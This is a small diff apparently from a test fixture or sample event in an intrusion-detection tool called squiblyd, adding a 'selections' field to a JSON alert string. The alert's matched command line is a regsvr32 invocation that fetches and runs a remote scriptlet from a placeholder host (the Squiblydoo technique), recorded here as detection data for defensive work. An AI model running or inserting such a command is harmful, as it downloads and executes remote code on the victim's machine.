@@ -30,6 +30,7 @@
 	"\"observer\":{\"vendor\":\"squiblyd\",\"product\":\"squiblyd\",\"type\":\"ids\","         \
 	"\"version\":\"0.1.0\",\"hostname\":\"sensor1\"},"                                         \
 	"\"squibly\":{\"peer\":\"192.0.2.7:51234\",\"shape\":\"nxlog\","                           \
+	"\"selections\":[\"program\",\"engine\"],"                                                 \
 	"\"matched\":[{\"field\":\"CommandLine\","                                                 \
 	"\"value\":\"regsvr32 /s /i:http://x/a.sct scrobj.dll\"}]}}"
 
